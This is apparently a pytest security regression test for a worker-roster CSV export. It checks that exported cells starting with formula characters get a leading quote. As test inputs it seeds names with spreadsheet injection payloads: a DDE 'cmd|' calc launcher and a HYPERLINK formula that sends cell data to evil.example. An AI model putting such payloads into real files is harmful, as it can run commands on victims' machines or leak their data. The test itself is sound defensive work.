"""Hole 10 (second pass): the roster CSV export wrote ``=HYPERLINK(...)`` / ``=cmd|...`` from
technicians' names and employers' trade names unescaped, so opening the 作業員名簿 in a spreadsheet
ran them (OWASP "CSV Injection").

Every exported cell that a spreadsheet would read as a formula starts with ``'`` instead.
"""

from __future__ import annotations

import csv
import io
import itertools
from typing import Any

import httpx

from tests.security.conftest import DEMO_PRIME, DEMO_SITE
from tests.support.server import LiveServer

FORMULA_STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_ids = itertools.count(1)


def _employer(server: LiveServer, trade_name: str) -> str:
    employer_id = f"{32000000000000 + next(_ids) * 7919:014d}"
    server.create_employer(employer_id=employer_id, trade_name=trade_name)
    server.genba(
        "admin", "add-site-company", "--site-id", DEMO_SITE, "--employer-id", employer_id,
        "--parent-employer-id", DEMO_PRIME,
    )  # fmt: skip
    return employer_id


def _worker(server: LiveServer, name: str, employer_id: str) -> None:
    technician_id = f"{42000000000000 + next(_ids) * 7919:014d}"
    server.create_technician(technician_id=technician_id, name=name, kana="ヤマダ タロウ", with_totp=False)
    server.link_affiliation(technician_id=technician_id, employer_id=employer_id, start="2020-04-01")
    server.genba(
        "admin", "assign", "--site-id", DEMO_SITE, "--technician-id", technician_id, "--employer-id", employer_id,
        "--start", "2020-04-01",
    )  # fmt: skip


def _client_token(server: LiveServer, client: dict[str, Any]) -> str:
    response = httpx.post(
        server.url("/token"),
        data={"grant_type": "client_credentials"},
        auth=(client["client_id"], client["client_secret"]),
        timeout=30,
    )
    assert response.status_code == 200, response.text
    token: str = response.json()["access_token"]
    return token


def test_roster_csv_cells_never_start_a_formula(server: LiveServer) -> None:
    """OWASP CSV Injection: a cell beginning with = + - @ (or tab/CR, or their full-width forms)
    is prefixed with a single quote; rule 2 lets the prime contractor's system read the roster."""
    employer_id = _employer(server, "=cmd|' /C calc'!A0")
    names = ['=HYPERLINK("https://evil.example/?d="&A2,"詳細")', "＠SUM(1+1)*cmd|' /C calc'!A0"]
    for name in names:
        _worker(server, name, employer_id)
    client = server.create_client(
        name="作業員名簿システム",
        redirect_uris=["https://roster.example/cb"],
        grant_types=["client_credentials"],
        owner_employer_id=DEMO_PRIME,
    )
    response = httpx.get(
        server.url(f"/api/v1/sites/{DEMO_SITE}/roster"),
        params={"format": "csv"},
        headers={"Authorization": f"Bearer {_client_token(server, client)}"},
        timeout=30,
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    for name in names:
        assert "'" + name in cells  # kept, shown as text
    assert "'=cmd|' /C calc'!A0" in cells
